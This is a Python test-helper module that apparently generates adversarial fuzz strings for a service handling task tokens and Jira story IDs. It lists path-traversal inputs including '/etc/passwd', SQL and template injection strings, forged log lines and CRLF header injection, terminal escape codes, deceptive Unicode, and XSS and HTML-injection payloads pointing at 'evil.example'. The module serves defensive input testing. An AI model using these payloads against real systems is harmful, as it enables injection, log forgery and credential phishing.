"""Texts that imitate something else: a path, an expression, a log line, a terminal command."""

import random

FORGED = "FORGED"
"""Part of every forged log line."""

PATHS = (
    "../..",
    "../../outputs/other/result.json",
    "..",
    ".",
    "/",
    "//",
    "/etc/passwd",
    "..\\..\\x",
    "%2e%2e%2f",
    "a/../b",
)

EXPRESSIONS = (
    "{% $x %}",
    "{% $states.context.Task.Token %}",
    "$states.context.Task.Token",
    "{% $error('x') %}",
    "$eval('1')",
    "$$",
    "$.a",
    "a.$",
    "States.Format('{}', $.a)",
    "${a}",
    "{{a}}",
    "#{a}",
    "<eventId>",
    "<aws.events.event.json>",
    "%(a)s %s {0} {a.__class__}",
)

PLACEHOLDERS = (
    ":token",
    ":quantity",
    "#status",
    "#pk = :id",
    "attribute_exists(callback)",
    "x' OR '1'='1",
    '", "taskToken": {"S": "x"}, "a": "',
    "__proto__",
    "constructor",
    "toString",
)

LINES = (
    f'\n{{"level":"ERROR","message":"{FORGED}"}}',
    f'\r\n{{"level":"INFO","message":"Callback taken","jiraStoryId":"{FORGED}"}}\r\n',
    f"\nStatus: {FORGED}",
    f"\n\nTimeline:\n  2025-01-01T00:00:00.000Z  {FORGED} (0.000 s)",
    f"\u2028Status: {FORGED}",
    f"\u2029Status: {FORGED}",
    f"\x85Status: {FORGED}",
    f"\x0bStatus: {FORGED}\x0c",
    f"\x1cStatus: {FORGED}\x1d\x1e",
    f"\rStatus: {FORGED}",
    f"\r\nSet-Cookie: {FORGED}=1",
    f'"}}\n{{"errorMessage": "{FORGED}"}}',
)

CONTROLS = ("\x00", "a\x00b", "\x07", "\x08" * 9, "\x1b[2J", "\x1b]0;title\x07", "\x9b31m", "\x7f", "\ufffe", "\uffff")

LETTERS = (
    "\u202e\u2066gnp.exe",
    "\u200b\u200d\ufeff",
    "\u0130\u0131\u017f\u212a",
    "\uff30\uff32\uff2f\uff2a-\uff11",
    "e\u0301\u0301\u0301" * 5,
    "\U0001f600\U000e0041",
    "PROJ\u20111",
    "релиз",
)

MARKUP = (
    "<script>alert(1)</script>",
    "\"><input name=code value=1234><form action='https://evil.example'>",
    "' onfocus='alert(1)' autofocus='",
    "</textarea></dd></dl><button name=decision value=approve>",
    "</title><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "$code ${title} $$ {{7*7}}",
    "<!-- --> <![CDATA[ ]]> &lt;b&gt; &#60;script&#62;",
)

SURROGATES = ("\ud800", "\udfff", "a\ud83d", "\ude00b")
"""Halves of a character, which JSON can escape and UTF-8 cannot hold."""

LENGTHS = (255, 256, 1_000, 1_024, 1_025, 2_048, 2_049, 5_000)

_FAMILIES = (PATHS, EXPRESSIONS, PLACEHOLDERS, LINES, CONTROLS, LETTERS)


def text(rng: random.Random) -> str:
    """Return a text that UTF-8 can hold: one to three pieces, sometimes very long."""
    pieces = [rng.choice(rng.choice(_FAMILIES)) for _ in range(rng.choice((1, 1, 2, 3)))]
    if rng.random() < 0.08:
        pieces.insert(0, rng.choice("xX0.A") * rng.choice(LENGTHS))
    if rng.random() < 0.2:
        pieces.insert(rng.randrange(len(pieces) + 1), "PROJ-1")
    return "".join(pieces)


def text_of_any_kind(rng: random.Random) -> str:
    """Return a text that may hold lone surrogates."""
    return text(rng) + rng.choice(SURROGATES) if rng.random() < 0.15 else text(rng)
